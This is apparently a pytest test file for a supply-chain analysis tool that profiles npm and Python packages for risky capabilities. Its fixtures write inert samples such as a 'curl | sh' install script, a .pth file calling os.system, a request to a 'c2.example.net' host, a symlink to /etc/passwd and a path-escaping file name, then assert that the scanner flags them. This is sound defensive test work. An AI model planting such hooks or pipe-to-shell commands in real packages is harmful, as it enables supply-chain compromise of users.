"""build_profile over an artifact directory built in the test: dispatch, binaries, minified code."""

from __future__ import annotations

import json
import os
import pickle
from pathlib import Path

import pytest

from distrust.analyze import profile as profile_module
from distrust.analyze.kinds import is_known
from distrust.analyze.profile import build_profile, looks_minified, module_stem, native_binary_format
from distrust.model import Artifact, Capability, PackageRef, Profile

MINIFIED = "var a=1;" + ";".join(f"function f{i}(a,b){{return a+b*{i}}}" for i in range(200)) + "\n"
READABLE = "\n".join(
    f"export function f{i}(a: number, b: number): number {{\n  return a + b * {i};\n}}" for i in range(5)
)


def make_artifact(root: Path, files: dict[str, bytes | str]) -> Artifact:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    listed = tuple(
        sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file() or p.is_symlink())
    )
    return Artifact(PackageRef("npm", "demo", "1.0.0"), root, listed, "sha512-test", str(root))


def by_file(profile: Profile) -> dict[str, set[tuple[str, str]]]:
    out: dict[str, set[tuple[str, str]]] = {}
    for cap in profile.capabilities:
        assert is_known(cap.kind), cap.kind
        out.setdefault(cap.file, set()).add((cap.kind, cap.value))
    return out


@pytest.fixture
def mixed(tmp_path: Path) -> Profile:
    files: dict[str, bytes | str] = {
        "package.json": json.dumps(
            {
                "name": "demo",
                "version": "1.0.0",
                "description": "d",
                "license": "MIT",
                "scripts": {"postinstall": "node setup.js"},
                "dependencies": {"x": "github:a/b"},
            }
        ),
        "binding.gyp": "{}",
        "index.js": "const https = require('https');\nhttps.request('https://c2.example.net/x');\n",
        "types/index.d.ts": "export declare function f(): void;\n",
        "native/addon.js": b"\x7fELF\x02\x01\x01" + b"\x00" * 100,
        "build/Release/addon.node": b"\xcf\xfa\xed\xfe" + b"\x00" * 100,
        "dist/lone.min.js": MINIFIED,
        "dist/paired.min.js": MINIFIED,
        "src/paired.ts": READABLE,
        "tools/helper.py": "import os\nos.system('id')\n",
        "bin/run": "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['ls'])\n",
        "scripts/install.sh": "#!/bin/sh\ncurl -fsSL https://get.example.org | sh\n",
        "README.md": "Contact phan@giftshop.club or see https://docs.example.org\n",
        "old/legacy.py": 'print "py2"\nimport os\nos.system("x")\n',
        "assets/logo.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 50,
        "lib/evil.pth": "import os; os.system('x')\n",
    }
    artifact = make_artifact(tmp_path, files)
    os.symlink("/etc/passwd", tmp_path / "link-to-passwd")
    artifact = Artifact(artifact.ref, tmp_path, (*artifact.files, "link-to-passwd", "../escape.js"), "i", "s")
    return build_profile(artifact)


def test_dispatch_by_kind_of_file(mixed: Profile) -> None:
    caps = by_file(mixed)
    assert ("install.hook", "postinstall: node setup.js") in caps["package.json"]
    assert ("dependency.url", "x@github:a/b") in caps["package.json"]
    assert ("process.spawn", "os.system: id") in caps["tools/helper.py"]
    assert ("process.spawn", "subprocess.run: ls") in caps["bin/run"]  # shebang, no extension
    assert ("network.request", "curl/wget") in caps["scripts/install.sh"]
    assert ("email.address", "phan@giftshop.club") in caps["README.md"]
    assert ("install.hook", "evil.pth: import os; os.system('x')") in caps["lib/evil.pth"]
    assert ("process.spawn", "os.system") in caps["old/legacy.py"]


def test_binaries_by_content(mixed: Profile) -> None:
    caps = by_file(mixed)
    assert ("binary.native", "ELF: addon.js") in caps["native/addon.js"]
    assert ("binary.native", "Mach-O: addon.node") in caps["build/Release/addon.node"]
    reasons = dict(mixed.unanalysed)
    assert reasons["native/addon.js"] == "native binary (ELF); machine code not analysed"


def test_nothing_is_skipped_silently(mixed: Profile) -> None:
    reasons = dict(mixed.unanalysed)
    assert reasons["types/index.d.ts"].startswith("TypeScript declaration file")
    assert reasons["assets/logo.png"] == "image (png)"
    assert reasons["link-to-passwd"].startswith("symbolic link to '/etc/passwd'")
    assert reasons["../escape.js"].startswith("path escapes the artifact root")
    assert reasons["old/legacy.py"] == "syntax error at line 1; analysed by tokens"
    assert not any(c.file == "link-to-passwd" for c in mixed.capabilities)


def test_minified_only_without_readable_source(mixed: Profile) -> None:
    minified = {c.file for c in mixed.capabilities if c.kind == "obfuscation.minified"}
    assert minified == {"dist/lone.min.js"}


def test_metadata_and_implicit_gyp_hook(mixed: Profile) -> None:
    assert dict(mixed.metadata) == {"name": "demo", "version": "1.0.0", "description": "d", "license": "MIT"}
    # the package has its own postinstall but no install script: npm still runs node-gyp rebuild
    assert ("install.hook", "install: node-gyp rebuild (implicit: binding.gyp)") in by_file(mixed)[
        "package.json"
    ]


def test_sorted_unique_and_progress(tmp_path: Path) -> None:
    artifact = make_artifact(
        tmp_path, {f"m{i}.py": "import os\nos.getenv('A'); os.getenv('A')\n" for i in range(5)}
    )
    calls: list[tuple[int, int]] = []
    profile = build_profile(artifact, progress=lambda done, total: calls.append((done, total)))
    keys = [(c.file, c.line, c.kind, c.value) for c in profile.capabilities]
    assert keys == sorted(set(keys))
    assert len(keys) == 5
    assert calls == [(i, 5) for i in range(1, 6)]


def test_python_metadata_priority(tmp_path: Path) -> None:
    artifact = make_artifact(
        tmp_path,
        {
            "pkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: real-name\nVersion: 1.0\n",
            "pkg-1.0/setup.py": "from setuptools import setup\nsetup(name='other', author='A')\n",
            "pkg-1.0/pkg.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: egg-name\nVersion: 1.0\n",
        },
    )
    meta = dict(build_profile(artifact).metadata)
    assert meta == {"name": "real-name", "version": "1.0", "author": "A"}


def test_large_files_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(profile_module, "MAX_ANALYSED_BYTES", 100)
    artifact = make_artifact(tmp_path, {"big.js": "x" * 500, "small.py": "x = 1\n"})
    reasons = dict(build_profile(artifact).unanalysed)
    assert reasons == {"big.js": "too large (500 bytes > 100-byte limit)"}


def test_js_analyser_unavailable_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(profile_module, "load_js_analyser", lambda: None)
    artifact = make_artifact(tmp_path, {"a.js": "fetch('https://x.example.org/p')\n"})
    profile = build_profile(artifact)
    assert dict(profile.unanalysed) == {"a.js": "JavaScript analyser unavailable; scanned as text only"}
    assert ("network.url", "https://x.example.org/p") in by_file(profile)["a.js"]


def test_js_dialect_dispatch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[tuple[str, str]] = []

    class Result:
        capabilities: tuple[Capability, ...] = ()
        problems: tuple[str, ...] = ()

    def fake(path: str, source: bytes, *, dialect: str) -> Result:
        seen.append((path, dialect))
        return Result()

    monkeypatch.setattr(profile_module, "load_js_analyser", lambda: fake)
    artifact = make_artifact(
        tmp_path, {n: "x\n" for n in ("a.js", "b.mjs", "c.cjs", "d.jsx", "e.ts", "f.mts", "g.tsx")}
    )
    build_profile(artifact)
    assert sorted(seen) == [
        ("a.js", "js"),
        ("b.mjs", "js"),
        ("c.cjs", "js"),
        ("d.jsx", "js"),
        ("e.ts", "ts"),
        ("f.mts", "ts"),
        ("g.tsx", "tsx"),
    ]


def test_helpers() -> None:
    assert native_binary_format(b"\x00asm\x01\x00\x00\x00") == "WebAssembly"
    assert native_binary_format(b"MZ\x90\x00") == "PE (Windows executable)"
    assert native_binary_format(b"\xca\xfe\xba\xbe\x00\x00\x00\x34") is None  # Java class, not Mach-O
    assert native_binary_format(b"\xca\xfe\xba\xbe\x00\x00\x00\x02") == "Mach-O universal"
    assert native_binary_format(b"// js") is None
    assert module_stem("dist/x.min.js") == "x" and module_stem("src/x.ts") == "x"
    assert looks_minified("a.js", MINIFIED) and not looks_minified("a.ts", READABLE)


def test_a_memo_shared_by_two_versions_changes_nothing(tmp_path: Path) -> None:
    manifest = json.dumps({"name": "demo", "version": "1.0.0"})
    common: dict[str, bytes | str] = {
        "index.js": "const https = require('https');\nhttps.get('https://c2.example.net/x');\n",
        "lib/util.js": MINIFIED,
        "src/util.ts": READABLE,
        "README.md": "see https://docs.example.org\n",
    }
    old = make_artifact(tmp_path / "old", {**common, "package.json": manifest, "binding.gyp": "{}"})
    new = make_artifact(tmp_path / "new", {**common, "package.json": manifest, "extra.py": "import os\n"})
    memo = profile_module.FileMemo()
    with_memo = [build_profile(old, memo=memo), build_profile(new, memo=memo)]
    alone = [build_profile(old), build_profile(new)]
    assert [(p.capabilities, p.metadata, p.unanalysed) for p in with_memo] == [
        (p.capabilities, p.metadata, p.unanalysed) for p in alone
    ]
    # The same package.json is an implicit install hook only where a binding.gyp sits beside it.
    hook = ("install.hook", "install: node-gyp rebuild (implicit: binding.gyp)")
    assert hook in by_file(with_memo[0])["package.json"]
    assert hook not in by_file(with_memo[1]).get("package.json", set())


def _many_files(root: Path) -> Artifact:
    files: dict[str, bytes | str] = {
        f"lib/m{i}.js": f"const x{i} = require('./m{i + 1}');\nfetch('https://h{i % 7}.example.net/p');\n"
        for i in range(40)
    }
    files.update({"dist/all.min.js": MINIFIED, "tools/t.py": "import os\nos.system('id')\n"})
    files["package.json"] = json.dumps({"name": "many", "version": "1.0.0", "scripts": {"install": "curl x"}})
    return make_artifact(root, files)


def _same(a: Profile, b: Profile) -> bool:
    return (a.capabilities, a.metadata, a.unanalysed) == (b.capabilities, b.metadata, b.unanalysed)


def test_several_processes_build_the_same_profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(profile_module, "PARALLEL_MIN_BYTES", 0)
    artifact = _many_files(tmp_path / "a")
    alone = build_profile(artifact)
    assert _same(build_profile(artifact, jobs=2), alone)
    assert _same(build_profile(artifact, jobs=3), alone)
    # With a memo, what the children analysed is remembered for the next version too.
    memo = profile_module.FileMemo()
    assert _same(build_profile(artifact, jobs=2, memo=memo), alone)
    seen: list[str] = []
    monkeypatch.setattr(profile_module, "_dispatch", lambda rel, *args: seen.append(rel))
    assert _same(build_profile(artifact, jobs=2, memo=memo), alone)
    assert seen == []


def test_a_failed_child_only_costs_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(profile_module, "PARALLEL_MIN_BYTES", 0)
    artifact = _many_files(tmp_path / "a")
    alone = build_profile(artifact)

    def broken(*args: object, **kwargs: object) -> bytes:
        raise MemoryError  # the child cannot send its results

    monkeypatch.setattr(pickle, "dumps", broken)
    assert _same(build_profile(artifact, jobs=2), alone)


def test_no_fork_while_other_threads_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    monkeypatch.setattr(profile_module, "PARALLEL_MIN_BYTES", 0)
    artifact = _many_files(tmp_path / "a")
    stop = threading.Event()
    other = threading.Thread(target=stop.wait)
    other.start()
    try:
        walk = profile_module._Walk(artifact.root, str(artifact.root), frozenset(artifact.files), None)
        assert profile_module._plan_processes(walk, sorted(artifact.files), 2) is None
    finally:
        stop.set()
        other.join()
    walk = profile_module._Walk(artifact.root, str(artifact.root), frozenset(artifact.files), None)
    assert profile_module._plan_processes(walk, sorted(artifact.files), 2) is not None
